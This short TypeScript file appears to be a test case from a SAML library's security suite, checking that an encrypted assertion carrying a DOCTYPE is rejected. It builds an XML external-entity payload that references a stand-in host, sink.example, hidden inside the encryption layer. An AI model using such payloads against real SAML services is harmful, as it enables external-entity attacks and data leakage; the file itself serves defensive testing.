import type { Attack } from '../../support/attack.ts'
import { encryptAssertion } from '../../support/encryption.ts'

export const attack: Attack = {
  misdeed: 'the DOCTYPE comes inside the encryption, for whoever guards the outer message only',
  code: 'xml_forbidden',
  forge: ({ response, assertion, ours }) => {
    const signed = assertion()
    const evil = `<!DOCTYPE r SYSTEM "http://sink.example/r.dtd">${signed}`
    return {
      evil: response({}, encryptAssertion(evil, ours.publicKey)),
      control: response({}, encryptAssertion(signed, ours.publicKey)),
    }
  },
}
